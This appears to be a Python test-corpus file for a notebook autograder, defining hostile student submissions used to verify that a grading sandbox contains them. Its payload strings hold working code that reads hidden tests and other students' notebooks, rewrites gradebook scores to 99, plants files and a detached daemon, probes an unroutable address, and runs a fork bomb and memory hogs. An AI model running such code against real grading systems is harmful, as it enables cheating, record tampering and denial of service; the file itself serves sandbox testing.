"""Hostile submissions (lab 00, the cheapest lab to grade): code that wants the answers, the grades or the machine.

Each must be graded as its honest work deserves and get nothing else: tests/test_sandbox.py checks what they
report, what they leave behind and what the feedback shows. They run only sandboxed (tests/grading_run.py grades
the corpus with SANDBOX_LIMITS); unconfined they would do what they say. Two submissions hold every behaviour
(each grading costs CI its time), with disjoint lost cells:

- "hostile": its ping_pong and ring_shift deadlock in every launch (it is graded in bounded time: once its
  launches have hung for the hang budget, the rest fail at once), and it keeps exercises 0.2 and 0.4. Its first
  exercise cell walks up from its working folder and from utils.__file__ reading every notebook, gradebook and
  test it finds (the answers, a neighbour's submission), writes a file into every folder it reaches and 99 points
  into every gradebook, starts a double-forked daemon in a new session with an emptied environment that writes
  files 15 s later, connects to a TEST-NET address (192.0.2.1, RFC 5737: must fail at once) and holds nbgrader's
  hidden-test marker as text; it prints one REPORT line of what it managed. Its last exercise cell allocates more
  than the memory bound in the kernel (the allocation fails there; the kernel lives on), and a cell of its own at
  the end of the notebook is a fork bomb whose children sleep (it reports how far it got).
- "memory_hog": solved, but ring_shift's ranks each take 0.6 of the memory bound (together more than it): a rank
  is stopped, only test_ring_shift is lost, and the report says "used more than 4 GB: stopped".
"""

from __future__ import annotations

from autograder.sandbox import Limits
from tests.corpus.common import Case, Edit, Notebook, append, body, chain, prepend
from tests.corpus.lab00 import ASSIGNMENT as ASSIGNMENT  # the lab these submissions are written for
from tests.corpus.lab00 import SEND_FIRST

SANDBOX_LIMITS = Limits(memory_bytes=4 << 30, processes=512)  # the grading run's: below CI's memory, above a lab's
TOKEN = "hostile-was-here"  # the name of every file the hostile code writes, and a word in its daemon's command line
REPORT = "hostile report: "

READ_AND_WRITE = f'''
# ### BEGIN HIDDEN TESTS  <- nbgrader's marker, as text in a student's cell: the feedback must still be made
import json as _json
import os as _os
import pathlib as _pathlib
import socket as _socket
import sqlite3 as _sqlite3
import sys as _sys
import time as _time

import utils as _utils

_token, _found, _wrote, _targets = "{TOKEN}", [], [], set()
_starts = [_pathlib.Path.cwd(), _pathlib.Path(_utils.__file__).resolve().parent]
_repo = _starts[1].parent
for _start in _starts:
    _targets.update([_start, *_start.parents])
_targets.update([_repo / "solutions", _repo / "utils", _pathlib.Path("/tmp")])


def _grab(path):
    """Read a file that may hold answers or grades; rewrite every gradebook's scores."""
    if path.name == "gradebook.db" or path.suffix == ".db":
        try:
            with _sqlite3.connect(path) as db:
                db.execute("UPDATE grade SET manual_score = 99, auto_score = 99")
            _wrote.append(str(path))
        except Exception:
            pass
    try:
        if path.stat().st_size > 1 << 20:  # answers and grades are small: a library read whole only costs time
            return
        text = path.read_text(errors="replace")
    except OSError:
        return
    if "BEGIN HIDDEN" + " TESTS" in text or "BEGIN SOL" + "UTION" in text or path.suffix == ".ipynb":
        _found.append(str(path))
        print(text[:20000])  # into the autograded notebook and the feedback, if it could read it


_seen = 0
for _top in sorted(_targets, key=lambda p: -len(p.parts)):
    for _dir, _subdirs, _files in _os.walk(_top):
        _seen += len(_files)
        if _seen > 20000 or _dir.startswith(("/proc", "/sys", "/usr", "/dev")):
            _subdirs[:] = []
            continue
        _targets.add(_pathlib.Path(_dir))
        for _name in _files:
            _grab(_pathlib.Path(_dir, _name))
for _target in _targets:
    try:
        (_target / _token).write_text("written during grading")
        _wrote.append(str(_target))
    except OSError:
        pass

# A daemon: double fork, new session, empty environment; it writes everywhere 15 s later.
_late = f"import pathlib, time\\ntime.sleep(15)\\nfor d in {{sorted(map(str, _targets))!r}}:\\n" \\
        f"    try: pathlib.Path(d, {{_token!r}} + '-late').write_text('late')\\n    except OSError: pass\\n"
if (_child := _os.fork()) == 0:
    _os.setsid()
    if _os.fork() == 0:
        _os.execve(_sys.executable, [_sys.executable, "-c", _late, _token], {{}})
    _os._exit(0)
_os.waitpid(_child, 0)

_t0 = _time.monotonic()
try:
    _socket.create_connection(("192.0.2.1", 80), timeout=5).close()  # TEST-NET-1: never routed
    _net = "connected"
except OSError as _e:
    _net = f"{{type(_e).__name__}} errno {{_e.errno}}"
print("{REPORT}" + _json.dumps({{"found": _found, "wrote": _wrote, "net": _net,
                                "net_seconds": _time.monotonic() - _t0}}))
'''

FORK_BOMB = f'''
import os as _os
import time as _time

_forks = 0
try:
    while _forks < 100000:
        if _os.fork() == 0:
            _time.sleep(3600)  # sleeps until grading ends it
            _os._exit(0)
        _forks += 1
except OSError as _e:
    print("{REPORT}" + f"fork bomb: {{_forks}} forks, then {{type(_e).__name__}}")
'''

HOG_RANKS = f"""hog = torch.ones(int(0.6 * {SANDBOX_LIMITS.memory_bytes}) // 4)  # float32: 0.6 of the bound, each rank
"""
HOG_KERNEL = f'''
_cache = torch.ones(int(1.2 * {SANDBOX_LIMITS.memory_bytes}) // 4)  # in the kernel: more than the whole bound
'''
PING_DEADLOCK = '''rank, world = dist.get_rank(), dist.get_world_size()
dist.send(torch.zeros(1), dst=(rank + 1) % world)  # every rank sends first: Gloo waits for the matching recv
dist.recv(torch.zeros(1), src=(rank - 1) % world)
return 1.0 if rank == 0 else None
'''


def cell_at_end(code: str) -> Edit:
    """A code cell of the student's own after every other cell (nothing runs after it)."""
    def make(nb: Notebook) -> Notebook:
        nb["cells"].append({"cell_type": "code", "metadata": {}, "execution_count": None, "outputs": [],
                            "source": code})
        return nb
    return make


CASES = [
    Case("hostile", chain(body("ping_pong", PING_DEADLOCK), append("ping_pong", READ_AND_WRITE),
                          body("ring_shift", SEND_FIRST), append("size_for_share", HOG_KERNEL),
                          cell_at_end(FORK_BOMB)),
         loses={"test_ping_pong", "test_ring_shift"},
         says=("did not finish within 30 s", "already hung", "test_ring_shift (4 points) failed")),
    Case("memory_hog", prepend("ring_shift", HOG_RANKS), loses={"test_ring_shift"},
         says=(f"used more than {SANDBOX_LIMITS.memory_words()}: stopped", "test_ring_shift (4 points) failed",
               "killed by SIGKILL")),
]
